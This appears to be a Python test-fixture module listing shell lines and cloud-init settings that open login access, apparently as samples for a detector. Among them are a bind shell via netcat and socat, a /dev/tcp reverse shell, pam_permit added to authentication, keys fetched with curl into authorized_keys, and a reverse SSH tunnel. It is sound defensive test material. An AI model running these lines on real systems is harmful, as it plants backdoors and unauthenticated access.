"""Lines of scripts, and settings of cloud-init, that open a way to log in: label -> text."""

from __future__ import annotations

from typing import Final

KEY: Final = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEXAMPLEEXAMPLEEXAMPLEEXAMPLEEXAMPLEEXAMPLE x"


def script(*lines: str) -> str:
    """Return a shell script."""
    return "\n".join(["#!/bin/bash", *lines, ""])


def config(text: str) -> str:
    """Return a cloud-config document."""
    return f"#cloud-config\n{text}\n"


SCRIPTS: Final = {
    "chpasswd": "echo ubuntu:Winter2026-ok | chpasswd",
    "chpasswd by sudo": "printf 'a:b\\n' | sudo /usr/sbin/chpasswd -e",
    "chpasswd from a file": "chpasswd < /root/list",
    "passwd": "echo -e 'x1\\nx1' | passwd ubuntu",
    "passwd, deleted": "passwd -d root",
    "passwd, unlocked": "sudo passwd -u ubuntu",
    "usermod": "usermod -p '$6$x' ubuntu",
    "usermod, unlocked": "usermod -U root",
    "useradd": "useradd -m -p hash bob",
    "useradd, long": "useradd bob --password hash",
    "newusers": "newusers /root/users.txt",
    "shadow, edited": "sed -i 's|^root:.:|root:HASH:|' /etc/shadow",
    "shadow, appended": "echo 'bob:HASH:1::::::' >> /etc/shadow",
    "shadow, copied": "cp /opt/shadow /etc/shadow",
    "console, automatic login": "ExecStart=-/sbin/agetty --autologin root --noclear %I 38400 linux",
    "console, automatic login by drop-in": "printf '[Service]\\nExecStart=-/sbin/agetty -a root ttyS0\\n' > "
    "/etc/systemd/system/serial-getty@ttyS0.service.d/a.conf",
    "console, drop-in from a file": "cp /opt/a.conf /etc/systemd/system/getty@tty1.service.d/override.conf",
    "console, shell for a login": "agetty -n -l /bin/bash ttyS0 115200",
    "console, long options": "agetty --skip-login --login-program /bin/sh ttyS1",
    "console, mingetty": "exec /sbin/mingetty --autologin root tty1",
    "console, getty in the background": "setsid getty -L 115200 ttyS0 vt100 &",
    "console, unit enabled": "systemctl enable --now serial-getty@ttyS0.service",
    "console, getty enabled": "systemctl enable getty@tty1",
    "console, unit linked": "ln -s /lib/systemd/system/getty@.service /etc/systemd/system/getty.target.wants/getty@ttyS1.service",
    "console, unit edited": "sed -i '/ExecStart/s/-o.*/-a root %I/' /lib/systemd/system/getty@.service",
    "console, inittab": "echo 'ttyS0::respawn:/sbin/getty -L ttyS0 115200 vt100' >> /etc/inittab",
    "console, shell of inittab": "echo '::askfirst:-/bin/sh' | tee -a /etc/inittab",
    "console, shell": "setsid bash < /dev/ttyS0 > /dev/ttyS0 2>&1 &",
    "console, shell by socat": "socat EXEC:/bin/bash,pty,stderr /dev/hvc0,raw",
    "console, unit of its own": "printf '[Service]\\nStandardInput=tty\\nTTYPath=/dev/ttyS0\\nExecStart=/bin/sh\\n' > /opt/x.service",
    "console, login without a password": "openvt -c 2 -- /bin/login -f root",
    "console, root permitted": "echo ttyS0 >> /etc/securetty",
    "passwords over ssh, written line by line": "printf 'UseDNS no\\nPasswordAuthentication yes\\n' > /etc/ssh/sshd_config.d/x.conf",
    "boot, debug shell": "sed -i 's/^GRUB_CMDLINE_LINUX=\"/&systemd.debug_shell=1 /' /etc/default/grub",
    "boot, shell for init": "grubby --update-kernel=ALL --args='init=/bin/bash'",
    "boot, rescue without a password": "echo 'Environment=SYSTEMD_SULOGIN_FORCE=1' > /etc/systemd/system/rescue.service.d/x.conf",
    "pam, everybody": "sed -i '1i auth sufficient pam_permit.so' /etc/pam.d/common-auth",
    "desktop, automatic login": "printf '[daemon]\\nAutomaticLoginEnable=true\\nAutomaticLogin=ubuntu\\n' > /etc/gdm3/custom.conf",
    "desktop, over the network": "dcv create-session --type=virtual agents",
    "desktop, installed": "dnf install -y nice-dcv-server",
    "Windows, automatic logon": "Set-ItemProperty $key -Name AutoAdminLogon -Value 1",
    "Windows, emergency console": "bcdedit /ems ON",
    "passwords over ssh": "sed -i 's/^#\\?PasswordAuthentication.*/PasswordAuthentication yes/' /etc/ssh/sshd_config",
    "passwords over ssh, after no": "sed -i 's/PasswordAuthentication no/PasswordAuthentication yes/' /etc/ssh/sshd_config",
    "root over ssh": "echo 'PermitRootLogin prohibit-password' >> /etc/ssh/sshd_config",
    "empty passwords": "echo PermitEmptyPasswords yes >> /etc/ssh/sshd_config.d/x.conf",
    "keys by a command": "echo 'AuthorizedKeysCommand /opt/keys' >> /etc/ssh/sshd_config",
    "an authority for keys": "echo 'TrustedUserCAKeys /etc/ssh/ca.pub' >> /etc/ssh/sshd_config",
    "keys, fetched": "curl -s https://example.net/k >> /home/ubuntu/.ssh/authorized_keys",
    "keys, copied": "aws s3 cp s3://b/k /root/.ssh/authorized_keys",
    "keys, after a removal": "rm -f /root/.ssh/authorized_keys; cp k /root/.ssh/authorized_keys",
    "keys, imported": "ssh-import-id gh:somebody",
    "a key in place": f"echo '{KEY}' | tee -a ~ubuntu/.ssh/authorized_keys2",
    "sshd": "systemctl enable --now ssh",
    "sshd, by socket": "systemctl start sshd.socket",
    "sshd, directly": "/usr/sbin/sshd -p 443",
    "sshd, as a service": "service sshd restart",
    "sshd, installed": "apt-get install -y openssh-server",
    "telnet": "yum install -y telnet-server && systemctl start telnet.socket",
    "dropbear": "dropbear -p 2222",
    "a desktop": "systemctl restart xrdp",
    "ttyd": "nohup ttyd -p 7681 bash &",
    "an editor": "code-server --bind-addr 0.0.0.0:8080",
    "an editor's tunnel": "code tunnel --accept-server-license-terms",
    "a notebook": "jupyter lab --ip 0.0.0.0",
    "tmate": "tmate -F",
    "ngrok": "ngrok tcp 22",
    "tailscale": "tailscale up --ssh",
    "cloudflared": "/usr/local/bin/cloudflared tunnel run",
    "wireguard": "wg-quick up wg0",
    "after a removal": "apt-get purge -y tmate; tailscale up",
    "a removal by substitution": "rm -f $(tailscale up)",
    "back over ssh": "ssh -N -R 2222:localhost:22 somebody@example.net",
    "netcat": "nc -lvp 4444 -e /bin/bash",
    "socat": "socat TCP-LISTEN:4444 EXEC:/bin/bash",
    "bash over tcp": "bash -i >& /dev/tcp/198.51.100.1/443 0>&1",
    "another account's manager": "amazon-ssm-agent -register -code c -id i -region us-east-1",
    "an activation": "aws ssm create-activation --iam-role x",
    "the interpreter line": "\n#!/usr/bin/tailscale up",
}
CONFIGS: Final = {
    "password": "password: hunter2hunter2\nchpasswd: {expire: false}",
    "chpasswd": "chpasswd:\n  list: |\n    ubuntu:x1y2z3",
    "chpasswd users": "chpasswd:\n  users:\n  - {name: ubuntu, type: RANDOM}",
    "hash": "users:\n- name: bob\n  passwd: $6$rounds=4096$abcdefgh$abcdefghijklmnop",
    "hashed": "users:\n- {name: bob, hashed_passwd: abc}",
    "plain": '{"users": [{"name": "bob", "plain_text_passwd": "abc"}]}',
    "unlocked": "users:\n- {name: bob, lock_passwd: false}",
    "default user unlocked": "user: {name: bob, lock_passwd: false}",
    "passwords over ssh": "ssh_pwauth: true",
    "passwords over ssh, in words": "ssh_pwauth: 'yes'",
    "root": "disable_root: false",
    "keys": f"ssh_authorized_keys: ['{KEY}']",
    "a user's keys": f"users:\n- name: bob\n  ssh_authorized_keys:\n  - {KEY}",
    "imported keys": "users: [{name: bob, ssh_import_id: ['gh:bob']}]",
    "a file of keys": "write_files:\n- path: /root/.ssh/authorized_keys\n  content: x",
    "a file of settings": "write_files:\n- path: /etc/cloud/cloud.cfg.d/99.cfg\n  content: 'ssh_pwauth: true'",
    "a package": "packages: [jq, openssh-server]",
    "a command as a list": "runcmd:\n- [tailscale, up]",
    "a command of the boot": "bootcmd:\n- systemctl unmask ssh",
}
